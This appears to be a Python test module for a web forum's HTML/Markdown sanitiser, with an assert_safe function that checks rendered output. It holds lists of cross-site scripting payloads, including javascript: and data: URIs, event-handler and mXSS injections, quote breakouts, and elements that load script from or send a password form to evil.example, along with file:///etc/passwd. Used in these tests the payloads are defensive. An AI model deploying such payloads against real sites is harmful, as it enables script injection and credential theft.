"""What hostile people write, and the laws that every rendered text must obey."""

import re
from html.parser import HTMLParser

from folkmoot.text.sanitise import TAGS, clean

# Rows 78 to 91 of the list of known holes: schemes, active elements, styles,
# attributes broken out of, names with quotes.
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "file:///etc/passwd",
    "blob:https://a.example/x",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example",
    "https:evil.example",
    "https:///evil.example",
    "intent://x#Intent;end",
    "web+ap://x/{uri}",
]

ELEMENTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<form action=//evil.example><input name=password><button formaction=x>x</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<a href=x onclick=alert(1) id=main class=admin>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<textarea></textarea><script>alert(1)</script>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
]

QUOTES = [
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "` onmouseover=alert(1) `",
    "</summary></details><script>alert(1)</script>",
    "\"'`<>&\\;:()[]{}",
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
]

PLACES = [
    "{}",
    "# {}",
    "> {}",
    "- [x] {}",
    "[{}](https://a.example)",
    "[x]({})",
    "[x](<{}>)",
    "[x][r]\n\n[r]: {}",
    "[x](https://a.example/{})",
    '[x](https://a.example "{}")',
    "![{}](https://a.example/p.png)",
    "![{}](/media/0123456789abcdef0123456789abcdef)",
    '![x](/media/0123456789abcdef0123456789abcdef "{}")',
    "![x]({})",
    "<{}>",
    "https://a.example/{}",
    "`{}`",
    "``` {}\n{}\n```",
    "::: spoiler {}\n{}\n:::",
    "::: {}\nx\n:::",
    "|{}|b|\n|:-:|-|\n|{}|x|",
    "a[^{}]\n\n[^{}]: {}",
    "@{}",
    "@bob@{}",
    "!{}@a.example",
    "*{}* ~~{}~~ ^{}^ ~{}~",
]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """The elements of the HTML with their attributes, read by another parser than ours."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_safe(html: str) -> None:
    """The laws: nothing active, no foreign picture, only known links, ids and classes."""
    assert clean(html) == html
    assert "<script" not in html.lower()
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", html)
    for tag, attrs in elements(html):
        assert tag in TAGS
        assert not any(name.startswith("on") or name == "style" for name in attrs)
        if "href" in attrs:
            assert re.match(
                r"https?://[^/\\]|mailto:|/(?![/\\])|#[\w-]*fn(ref)?-\d+$",
                attrs["href"] or "",
                re.IGNORECASE,
            )
            assert attrs["rel"] == "nofollow noopener ugc"
        if tag == "img":
            assert re.match(r"/media/[0-9a-f]{32}", attrs["src"] or "")
            assert attrs["loading"] == "lazy"
        assert attrs.get("class", "") in {"", "task", "footnotes"}
        assert re.fullmatch(r"[\w-]*fn(ref)?-\d+", attrs.get("id") or "fn-1")
